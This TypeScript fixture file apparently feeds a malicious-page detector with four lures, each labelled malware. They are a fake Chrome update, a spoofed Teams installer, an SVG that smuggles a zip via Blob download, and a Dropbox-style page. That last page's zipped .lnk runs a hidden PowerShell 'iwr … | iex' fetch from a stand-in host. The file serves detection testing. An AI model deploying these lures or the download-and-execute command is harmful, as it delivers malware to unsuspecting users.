import { type Entry } from '../entry.js';
import { baseCss, doc, zipOf, ZIP_B64, FAKE_EXE } from '../parts/d-parts.js';

/** HTML smuggling and malware delivery: Blob / data: URLs building .zip/.iso/.html/.js downloads, fake update .exe. Written for corpus/d. */


export const entries: Entry[] = [

{
  id: 'd-smug-fake-browser-update-exe',
  label: 'malware',
  kind: 'fake-update-download',
  url: 'https://www.maple-ridge-quilters.org/events/winter-show',
  body: doc({
    title: 'Winter Quilt Show 2026 – Maple Ridge Quilters',
    css: `body{margin:0;font-family:Arial}#fu{position:fixed;inset:0;background:#f1f3f4;z-index:99;display:flex;align-items:center;justify-content:center}.u{background:#fff;max-width:520px;padding:40px;border-radius:8px;text-align:center;box-shadow:0 2px 10px rgba(0,0,0,.1)}.u a{display:inline-block;background:#1a73e8;color:#fff;padding:12px 30px;border-radius:4px;text-decoration:none;margin-top:10px}`,
    body: `<main><h1>Winter Quilt Show 2026</h1><p>Join us on January 17–18 at the Community Hall…</p></main>
<div id="fu"><div class="u"><img src="wp-content/uploads/chrome-logo.png" width="72" alt="Chrome"><h2>Your browser is out of date!</h2><p>Google Chrome could not update automatically. This page may not display correctly. Update Chrome to the latest version (131.0.6778.86) to continue.</p><a href="https://chrome-updates.browser-patch-cdn.com/release/ChromeUpdate_131.0.6778.86.exe" id="u">Update Chrome</a><p style="font-size:12px;color:#777">Recommended for your security.</p></div></div>
<script>if(!/Windows/.test(navigator.userAgent)){}document.getElementById('u').addEventListener('click',function(){setTimeout(function(){document.querySelector('.u').innerHTML+='<p>Run <b>ChromeUpdate_131.exe</b> from your Downloads folder to finish.</p>'},500)})</script>`,
  }),
  routes: {
    'chrome-updates.browser-patch-cdn.com/release/ChromeUpdate_131.0.6778.86.exe': { status: 200, headers: { 'content-type': 'application/x-msdownload', 'content-disposition': 'attachment; filename="ChromeUpdate_131.0.6778.86.exe"' }, body: FAKE_EXE },
  },
},

{
  id: 'd-smug-fake-teams-installer-msix',
  label: 'malware',
  kind: 'fake-installer-download',
  url: 'https://teams-download.microsoft-meetings-app.com/en-us/download-app',
  body: doc({
    title: 'Download Microsoft Teams Desktop and Mobile Apps | Microsoft Teams',
    css: baseCss('#5b5fc7') + `.hero{text-align:center;padding:60px 20px}`,
    body: `<div class="hero"><img src="img/teams.svg" width="80" alt="Microsoft Teams"><h1>Download Microsoft Teams</h1><p>Connect and collaborate with anyone from anywhere on Teams.</p><a class="btn" href="/files/MSTeamsSetup_x64.msix" id="d">Download for desktop</a><p class="muted">Your meeting organizer requires the desktop app for this meeting (ID 392 118 440 27).</p></div>`,
  }),
  routes: {
    'teams-download.microsoft-meetings-app.com/files/MSTeamsSetup_x64.msix': { status: 200, headers: { 'content-type': 'application/octet-stream', 'content-disposition': 'attachment; filename="MSTeamsSetup_x64.msix"' }, body: zipOf('AppxManifest.xml', '<?xml version="1.0"?><Package><Applications><Application Id="App" Executable="VFS/ProgramFilesX64/teams/StartupScript.ps1"/></Applications></Package>') },
  },
},

{
  id: 'd-smug-svg-attachment',
  label: 'malware',
  kind: 'smuggling-svg',
  url: 'https://attachments.voicemsg-cloud.net/m/VM_Recording_0612.svg',
  routes: {
    'attachments.voicemsg-cloud.net/m/VM_Recording_0612.svg': {
      status: 200,
      headers: { 'content-type': 'image/svg+xml' },
      body: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="300" viewBox="0 0 600 300">
<rect width="600" height="300" fill="#f3f4f6"/><text x="40" y="80" font-family="Arial" font-size="24" fill="#111">▶ Voice message (0:38)</text><text x="40" y="120" font-family="Arial" font-size="16" fill="#555">Preparing audio player download…</text>
<script type="text/javascript"><![CDATA[
(function(){var d='${ZIP_B64}';var b=atob(d),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);
var blob=new Blob([u],{type:'application/zip'});var a=document.createElementNS('http://www.w3.org/1999/xhtml','a');a.href=URL.createObjectURL(blob);a.download='VM_Recording_0612.zip';document.documentElement.appendChild(a);a.click();})();
]]></script></svg>`,
    },
  },
},

{
  id: 'd-smug-password-zip-dropbox',
  label: 'malware',
  kind: 'malware-download-lure',
  url: 'https://transfer.filedrop-secure.net/d/Q2-Statement',
  body: doc({
    title: 'Dropbox Transfer – Q2-Statement',
    css: baseCss('#0061fe') + `.d{max-width:480px;margin:70px auto;text-align:center}`,
    body: `<div class="d card"><img src="img/dropbox-glyph.svg" alt="Dropbox" width="40"><h1 style="font-size:20px">Q2-Statement.zip</h1><p class="muted">2 files · 1.4 MB · Expires in 6 days</p><a class="btn btn-block" href="/d/Q2-Statement/file/Q2-Statement.zip">Download</a><p class="muted">Archive password: <b>Q2-2026</b> (protected for your privacy)</p></div>`,
  }),
  routes: {
    'transfer.filedrop-secure.net/d/Q2-Statement/file/Q2-Statement.zip': { status: 200, headers: { 'content-type': 'application/zip', 'content-disposition': 'attachment; filename="Q2-Statement.zip"' }, body: zipOf('Q2-Statement.pdf.lnk', 'L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F C:\\Windows\\System32\\cmd.exe /c powershell -w h -c "iwr https://filedrop-secure.net/s/st.ps1|iex"') },
  },
},

];
